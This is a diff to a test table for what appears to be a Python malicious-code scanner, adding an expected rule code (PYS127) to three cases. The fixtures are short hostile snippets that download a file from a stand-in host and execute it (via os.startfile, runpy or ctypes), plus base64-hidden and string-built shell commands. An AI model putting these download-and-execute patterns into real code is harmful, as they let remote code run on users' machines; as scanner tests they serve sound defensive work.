@@ -79,7 +79,7 @@ CASES = {
     ),
     "tempfile-drop": (
         'import tempfile,os,requests\nd=requests.get("http://x").content\np=os.path.join(tempfile.gettempdir(),"upd.exe")\nopen(p,"wb").write(d)\nos.startfile(p)\n',
-        ["PYS104", "PYS118", "PYS124"],
+        ["PYS104", "PYS118", "PYS124", "PYS127"],
     ),
     "b64-subprocess": (
         'import base64,subprocess\nsubprocess.run(base64.b64decode("cGF5bG9hZCAtLWdv").decode(),shell=True)\n',
@@ -91,11 +91,11 @@ CASES = {
     ),
     "runpy-dl": (
         'import runpy,urllib.request\nurllib.request.urlretrieve("http://x/a.py","/tmp/a.py")\nrunpy.run_path("/tmp/a.py")\n',
-        ["PYS104", "PYS118"],
+        ["PYS104", "PYS118", "PYS127"],
     ),
     "ctypes-dl": (
         'import ctypes,urllib.request\nurllib.request.urlretrieve("http://x/a.so","/tmp/a.so")\nctypes.CDLL("/tmp/a.so")\n',
-        ["PYS104", "PYS118"],
+        ["PYS104", "PYS118", "PYS127"],
     ),
     "import-module-built": (
         'import importlib\nimportlib.import_module("o"+"s").system("payload")\n',
